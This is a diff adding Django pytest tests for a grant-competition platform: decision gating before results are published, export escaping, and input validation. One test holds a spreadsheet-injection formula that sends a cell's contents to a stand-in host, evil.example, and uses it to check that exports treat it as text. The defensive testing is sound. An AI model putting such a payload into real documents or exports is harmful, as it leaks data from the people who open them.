@@ -269,3 +269,96 @@ def test_decision_for_funding_needs_an_amount_within_limits(competition):
         evaluation.decide(application=application, by=editor, decision=Decision.FUNDED, amount=None)
     with pytest.raises(ValidationError, match="needs an amount"):
         evaluation.decide(application=application, by=editor, decision=Decision.FUNDED, amount=Decimal("99"))
+
+
+@pytest.mark.django_db
+def test_results_are_published_only_once_every_submitted_application_has_a_decision(client, competition):
+    """Issue 12, item 3: "Results published" with nothing decided listed nothing."""
+    editor = UserFactory(role=Role.EDITOR)
+    evaluation.call_move(call=competition, to=CallStatus.RANKING_LOCKED, by=editor)
+    first, second, third = (competition.applications.get(reference=f"COMP-{n}") for n in range(3))
+    Application.objects.create(call=competition, applicant=UserFactory(), reference="COMP-DRAFT", title="Draft")
+    client.force_login(editor)
+    page = client.post(f"/en/calls/{competition.slug}/manage/", {"action": "move", "to": "results_published"},
+                       follow=True).content.decode()
+    assert "3 applications have no decision yet" in page
+    competition.refresh_from_db()
+    assert competition.status == CallStatus.RANKING_LOCKED
+    evaluation.decide(application=first, by=editor, decision="funded", amount=Decimal("30000"))
+    evaluation.decide(application=second, by=editor, decision="rejected")
+    with pytest.raises(ValidationError, match="1 application has no decision yet"):
+        evaluation.call_move(call=competition, to=CallStatus.RESULTS_PUBLISHED, by=editor)
+    evaluation.decide(application=third, by=editor, decision="reserve")
+    evaluation.call_move(call=competition, to=CallStatus.RESULTS_PUBLISHED, by=editor)  # the draft does not count
+    competition.refresh_from_db()
+    assert competition.status == CallStatus.RESULTS_PUBLISHED
+
+
+@pytest.mark.django_db
+def test_exports_keep_an_applicants_formula_as_text(client, competition):
+    """Issue 12, item 19: a title "=HYPERLINK(…)" was a live formula in the editor's workbook."""
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+    competition.applications.filter(reference="COMP-0").update(title=formula)
+    client.force_login(UserFactory(role=Role.EDITOR))
+    response = client.get(f"/en/calls/{competition.slug}/manage/applications.xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert len(cells) == 1 and cells[0].data_type == "s"
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    rows = list(csv.reader(io.StringIO(b"".join(client.get(
+        f"/en/calls/{competition.slug}/manage/applications.csv").streaming_content).decode())))
+    assert ["'" + formula] == [value for row in rows for value in row if formula in value]
+
+
+@pytest.mark.django_db
+def test_bad_ids_and_values_posted_by_editors_get_a_message_not_an_error(client, competition):
+    """Issue 12, item 23 (calls): every id and value an editor posts is read through a form."""
+    editor = UserFactory(role=Role.EDITOR)
+    client.force_login(editor)
+    manage, ranking = f"/en/calls/{competition.slug}/manage/", f"/en/calls/{competition.slug}/manage/ranking/"
+    competition.status = CallStatus.RANKING_LOCKED
+    competition.save()
+    other = CallFactory()
+    stranger = Application.objects.create(call=other, applicant=UserFactory(), reference="OTHER-1", title="x",
+                                          status=ApplicationStatus.SUBMITTED)
+    for bad in ("abc", "²", "1" * 30, "\x00", str(stranger.pk)):
+        response = client.post(ranking, {"application": bad, "decision": "rejected"})
+        expected = "Null characters are not allowed." if bad == "\x00" else "This application is not in this call."
+        assert response.status_code == 400 and expected in response.content.decode(), bad
+    assert not Application.objects.exclude(decision="").exists()
+    page = client.post(manage, {"action": "appoint", "email": "ana\x00@example.org"}).content.decode()
+    assert "Write a valid e-mail address." in page and 'value="ana' in page
+    question = competition.questions.create(question="Until when?", asked_by=UserFactory())
+    assert "Until when?" in client.get(manage).content.decode()  # listed to be answered
+    response = client.post(manage, {"action": "answer", "question": question.pk, "answer": "Until\x00 June"})
+    assert response.status_code == 400 and "Null characters are not allowed." in response.content.decode()
+    assert ">Until June</textarea>" in response.content.decode()  # given back, without the invisible NUL
+    for data in ({"action": "answer", "question": "abc", "answer": "Soon"},
+                 {"action": "assign", "application": "abc", "evaluator": "²"},
+                 {"action": "auto_assign", "per": "²"},
+                 {"action": "move", "to": "\x00"}):
+        response = client.post(manage, data, follow=True)
+        assert response.status_code in (200, 400), data
+        assert "message-error" in response.content.decode(), data
+    question.refresh_from_db()
+    assert question.answer == ""
+    assert client.get(f"/en/calls/{competition.slug}/receipts/%00/1/").status_code == 404
+    assert client.get(f"/en/calls/{competition.slug}/reviews/%00/").status_code == 404
+
+
+@pytest.mark.django_db
+def test_evaluators_see_a_dash_for_an_empty_answer_never_none(client, competition):
+    """Issue 12, item 15: the evaluator's view printed "None" for an empty answer."""
+    # The call's form already asks for a "summary" (long text).
+    FormField.objects.create(call=competition, key="budget_total", kind=FieldKind.MONEY, label_ro="Buget",
+                             label_en="Budget", position=2, required=False)
+    editor, (evaluator, _other) = appoint(competition)
+    application = competition.applications.get(reference="COMP-0")
+    application.answers = {"summary": None, "budget_total": "25000"}
+    application.save()
+    evaluation.assignment_add(application=application, evaluator=evaluator, by=editor)
+    client.force_login(evaluator)
+    page = client.get(f"/ro/calls/{competition.slug}/reviews/{application.code}/").content.decode()
+    assert "None" not in page and "25.000 lei" in page
